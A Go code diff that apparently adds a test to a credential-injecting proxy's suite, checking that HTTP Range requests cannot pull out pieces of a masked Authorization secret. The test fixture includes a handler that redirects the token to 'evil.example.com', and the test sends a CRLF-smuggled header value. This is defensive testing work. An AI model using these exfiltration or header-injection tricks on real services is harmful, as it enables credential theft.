@@ -125,6 +125,8 @@ func (w *world) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
 	case "/echo":
 		rw.Header().Set("X-Echo", "you sent "+r.Header.Get("Authorization"))
 		fmt.Fprintf(rw, "auth: %s; encoding: %s; body: %s", r.Header.Get("Authorization"), r.Header.Get("Accept-Encoding"), body)
+	case "/part":
+		http.ServeContent(rw, r, "", time.Time{}, strings.NewReader(r.Header.Get("Authorization")))
 	case "/redirect":
 		http.Redirect(rw, r, "https://evil.example.com/?t="+r.Header.Get("Authorization"), http.StatusFound)
 	case "/spoof":
@@ -247,6 +249,23 @@ func TestEcho(t *testing.T) {
 	}
 	if b, err := io.ReadAll(r.Body); err != nil || int64(len(b)) != r.ContentLength {
 		t.Errorf("%q %v", b, err)
+	}
+}
+
+// No part of a value can be asked for: over several calls the parts would be all of it.
+func TestParts(t *testing.T) {
+	w := newWorld(t)
+	api, other := w.host("api.example.com"), w.host("other.example.com")
+	door, _ := w.open(api, other)
+	for _, field := range []string{"Range", "RANGE", "Request-Range", "If-Range: x\r\nRange"} {
+		got := send(t, door, "GET https://"+api+"/part HTTP/1.1\r\n"+field+": bytes=7-11\r\n\r\n")
+		if strings.Contains(got, "206 ") || strings.Contains(got, canary[:5]) || !strings.Contains(got, "Bearer ****") {
+			t.Errorf("%s: %q", field, got)
+		}
+	}
+	got := send(t, door, "GET https://"+other+"/part HTTP/1.1\r\nAuthorization: mine\r\nRange: bytes=1-2\r\n\r\n")
+	if !strings.Contains(got, "206 ") || !strings.HasSuffix(got, "in") { // what holds no secret can be had in parts
+		t.Errorf("%q", got)
 	}
 }
 
